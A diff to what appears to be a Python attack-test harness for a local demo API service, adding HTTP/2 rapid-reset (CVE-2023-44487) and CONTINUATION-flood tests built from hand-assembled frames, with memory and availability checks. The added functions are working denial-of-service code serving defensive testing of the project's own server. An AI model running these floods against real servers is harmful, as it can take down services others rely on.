@@ -18,13 +18,16 @@ the other:
   idle-tls     5 000 TLS connections that send no request
   no-tls       4 600 TCP connections that never start TLS
   unread-watch 200 watches with timeoutSeconds=5 whose clients never read
+  h2-rapid-reset   20 000 HTTP/2 streams opened and reset at once (kept from the first audit)
+  h2-continuation  50 connections sending a header block that never ends
 
 During each, `kubectl get` (the demo's admin, through the real kubectl) runs every second and must
 succeed. Measured: the API service's RSS (idle, peak during the attack, and after: polled every
 second until back within 20 % of idle, for at most --recovery-seconds), /metrics size, RBAC
-bypasses, TokenReviews at once, threads, connections left, access-log bytes. Targets: peak at most
-64 MB above idle, back within 20 % of idle, /metrics under 1 MB, 0 bypasses, the cap and the
-timeout applied, every kubectl request served. Prints a table; exits non-zero when a target is
+bypasses, TokenReviews at once, threads, connections left, access-log bytes. Idle is the RSS right
+before each attack (the bounded caches an attack fills stay filled; the first and last RSS are
+printed too). Targets: peak at most 64 MB above idle, back within 20 % of idle, /metrics under
+1 MB, 0 bypasses, the cap and the timeout applied, every kubectl request served. Prints a table; exits non-zero when a target is
 missed (ATTACKS_REPORT_ONLY=1: report only).
 """
 
@@ -728,6 +731,71 @@ def attack_no_tls(stack, fig):
         s.close()
 
 
+def h2_connection(stack):
+    """A TLS connection speaking HTTP/2 (ALPN h2), its preface and SETTINGS sent, and a thread
+    draining what the server writes."""
+    ctx = ssl.create_default_context(cafile=f"{stack.pki}/ca.crt")
+    ctx.set_alpn_protocols(["h2"])
+    raw = socket.create_connection(("127.0.0.1", stack.port), timeout=30)
+    sock = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
+    assert sock.selected_alpn_protocol() == "h2"
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
+
+    def drain():
+        try:
+            while sock.recv(65536):
+                pass
+        except OSError:
+            pass
+
+    threading.Thread(target=drain, daemon=True).start()
+    return sock
+
+
+def frame(kind, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+# HPACK: :method GET, :scheme https, :path / (static table), :authority x (literal, indexed name).
+H2_GET = b"\x82\x87\x84\x01\x01x"
+
+
+def attack_h2_rapid_reset(stack, fig):
+    """HTTP/2 rapid reset (CVE-2023-44487): streams opened and cancelled at once, 20 000 of them."""
+    sent = refused = 0
+    while sent < 20_000:
+        try:
+            sock = h2_connection(stack)
+            batch = b"".join(frame(1, 0x5, sid, H2_GET) + frame(3, 0, sid, (8).to_bytes(4, "big"))
+                             for sid in range(1, 2001, 2))
+            sock.sendall(batch)
+            sent += 1000
+            sock.close()
+        except (OSError, ssl.SSLError):
+            refused += 1
+            sent += 1000
+    fig["streams reset"] = sent
+    fig["connections refused or cut"] = refused
+
+
+def attack_h2_continuation(stack, fig):
+    """HTTP/2 CONTINUATION flood: a header block that never ends, 50 connections x 1 000 frames."""
+    cut = 0
+    for _ in range(50):
+        try:
+            sock = h2_connection(stack)
+            sock.sendall(frame(1, 0x1, 1, H2_GET))  # END_STREAM, no END_HEADERS
+            junk = b"\x40\x05x-pad" + b"\x7f\x81\x7f" + b"a" * 16_000  # a literal header, 16 000 bytes
+            for _ in range(1000):
+                sock.sendall(frame(9, 0, 1, junk))
+            sock.close()
+        except (OSError, ssl.SSLError):
+            cut += 1
+    fig["connections"] = 50
+    fig["cut by the server"] = cut
+    fig.check(cut == 50, "every flooding connection is cut")
+
+
 ATTACKS = [
     ("methods", attack_methods),
     ("rbac", attack_rbac),
@@ -737,6 +805,8 @@ ATTACKS = [
     ("idle-tls", attack_idle_tls),
     ("no-tls", attack_no_tls),
     ("unread-watch", attack_unread_watches),
+    ("h2-rapid-reset", attack_h2_rapid_reset),
+    ("h2-continuation", attack_h2_continuation),
 ]
 
 
